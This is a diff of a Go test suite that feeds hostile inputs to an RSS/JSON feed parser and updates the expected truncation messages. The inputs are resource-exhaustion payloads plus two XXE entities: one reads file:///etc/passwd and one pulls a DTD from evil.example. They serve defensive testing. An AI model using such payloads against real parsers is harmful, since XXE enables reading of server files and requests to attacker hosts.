@@ -149,7 +149,7 @@ func hostileCases() []suiteCase {
 		return "<rss><channel><title>Ore</title><item><title>T</title>" + inside + "</item></channel></rss>"
 	}
 	deep := strings.Repeat("<a>", 2_000_000)
-	cut := map[string]string{"items": "5000", "error": "995000 items beyond the first 5000 left out"}
+	cut := map[string]string{"items": "5000", "incomplete": "995000 items beyond the first 5000 left out"}
 	return []suiteCase{
 		{name: "hostile/nested without end", body: "<rss><channel><item>" + deep, want: map[string]string{"error": "feed nested deeper than 100 elements"}, deadly: true},
 		{name: "hostile/nested in a text", body: item("<description>" + strings.Repeat("<div>", 200) + strings.Repeat("</div>", 200) + "</description>"), want: map[string]string{"error": "feed nested deeper than 100 elements"}},
@@ -167,14 +167,14 @@ func hostileCases() []suiteCase {
 		{name: "hostile/entity from a file", body: `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>` + item("<description>&f;</description>"), want: map[string]string{"error": "feed that defines entities of its own"}},
 		{name: "hostile/entity by parameter", body: `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>` + item(""), want: map[string]string{"error": "feed that defines entities of its own"}},
 		{name: "hostile/million items", body: "<rss><channel>" + numbered(1_000_000, func(n string) string { return "<item><guid>" + n + "</guid></item>" }) + "</channel></rss>", want: cut, deadly: true},
-		{name: "hostile/million empty items", body: "<rss><channel><item><title>T</title></item>" + strings.Repeat("<item/>", 1_000_000), want: map[string]string{"error": "995001 items beyond the first 5000 left out"}, deadly: true},
+		{name: "hostile/million empty items", body: "<rss><channel><item><title>T</title></item>" + strings.Repeat("<item/>", 1_000_000), want: map[string]string{"incomplete": "995001 items beyond the first 5000 left out"}, deadly: true},
 		{name: "hostile/million items of JSON", body: `{"items":[` + strings.TrimSuffix(numbered(1_000_000, func(n string) string { return `{"id":` + n + `},` }), ",") + `]}`, want: cut, deadly: true},
-		{name: "hostile/item of 3 MiB", body: item("<description>" + strings.Repeat("tin ", 3<<18) + "</description>"), want: map[string]string{"title": "T", "error": "1 items cut at 1024 KiB"}},
-		{name: "hostile/title of 3 MiB", body: "<rss><channel><item><title>" + strings.Repeat("tin ", 3<<18) + "</title></item></channel></rss>", want: map[string]string{"items": "1", "error": "1 items cut at 1024 KiB"}},
-		{name: "hostile/opening brackets", body: item("<description>" + strings.Repeat("<", 3<<20) + "</description>"), want: map[string]string{"title": "T", "error": "1 items cut"}},
-		{name: "hostile/ampersands", body: item("<description>" + strings.Repeat("&", 1<<20) + "</description>"), want: map[string]string{"title": "T", "error": "1 items cut"}},
-		{name: "hostile/CDATA that never ends, often", body: item(strings.Repeat("<description><![CDATA[x</item><item><title>T</title>", 20_000)), want: map[string]string{"title": "T", "error": "15001 items beyond the first 5000 left out"}},
-		{name: "hostile/comments that never end", body: item(strings.Repeat("<!-- ", 500_000)), want: map[string]string{"title": "T"}},
+		{name: "hostile/item of 3 MiB", body: item("<description>" + strings.Repeat("tin ", 3<<18) + "</description>"), want: map[string]string{"title": "T", "incomplete": "1 item cut at 1024 KiB"}},
+		{name: "hostile/title of 3 MiB", body: "<rss><channel><item><title>" + strings.Repeat("tin ", 3<<18) + "</title></item></channel></rss>", want: map[string]string{"items": "1", "incomplete": "1 item cut at 1024 KiB"}},
+		{name: "hostile/opening brackets", body: item("<description>" + strings.Repeat("<", 3<<20) + "</description>"), want: map[string]string{"title": "T", "incomplete": "1 item cut"}},
+		{name: "hostile/ampersands", body: item("<description>" + strings.Repeat("&", 1<<20) + "</description>"), want: map[string]string{"title": "T", "incomplete": "1 item cut"}},
+		{name: "hostile/CDATA that never ends, often", body: item(strings.Repeat("<description><![CDATA[x</item><item><title>T</title>", 20_000)), want: map[string]string{"title": "T", "incomplete": "15001 items beyond the first 5000 left out"}},
+		{name: "hostile/comments that never end", body: item(strings.Repeat("<!-- ", 500_000)), want: map[string]string{"incomplete": "it breaks off", "title": "T"}},
 		{name: "hostile/quotes that never end", body: item(strings.Repeat(`<a b="`, 500_000)), want: map[string]string{}},
 		{name: "hostile/end tags of nothing", body: item(strings.Repeat("</x>", 1_000_000)), want: map[string]string{"title": "T"}},
 		{name: "hostile/empty elements", body: item(strings.Repeat("<x/>", 1_000_000)), want: map[string]string{"title": "T"}},
@@ -183,10 +183,10 @@ func hostileCases() []suiteCase {
 		{name: "hostile/picture", body: "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", want: map[string]string{"error": "not a feed: the answer is plain text"}},
 		{name: "hostile/archive", body: "PK\x03\x04\x14\x00\x08\x00", want: map[string]string{"error": "not a feed: the answer is plain text"}},
 		{name: "hostile/many authors", body: item(numbered(100_000, func(n string) string { return "<dc:creator>" + n + "</dc:creator>" })), want: map[string]string{"title": "T"}},
-		{name: "hostile/brackets", body: item("<description><![CDATA[" + strings.Repeat("<a <b <c ", 200_000) + "]]></description>"), want: map[string]string{"title": "T", "error": "1 items cut"}},
-		{name: "hostile/brackets with quotes", body: item("<description><![CDATA[" + strings.Repeat(`<a b=" <a b=' `, 100_000) + "]]></description>"), want: map[string]string{"title": "T", "error": "1 items cut"}},
+		{name: "hostile/brackets", body: item("<description><![CDATA[" + strings.Repeat("<a <b <c ", 200_000) + "]]></description>"), want: map[string]string{"title": "T", "incomplete": "1 item cut"}},
+		{name: "hostile/brackets with quotes", body: item("<description><![CDATA[" + strings.Repeat(`<a b=" <a b=' `, 100_000) + "]]></description>"), want: map[string]string{"title": "T", "incomplete": "1 item cut"}},
 		{name: "hostile/marks on a letter", body: item("<description>a" + strings.Repeat("\u0301", 100_000) + "</description>"), want: map[string]string{"title": "T"}},
-		{name: "hostile/unclosed titles", body: "<rss><channel>" + strings.Repeat("<item><title>T", 5000), want: map[string]string{"items": "1"}},
+		{name: "hostile/unclosed titles", body: "<rss><channel>" + strings.Repeat("<item><title>T", 5000), want: map[string]string{"incomplete": "it breaks off", "items": "1"}},
 	}
 }
 
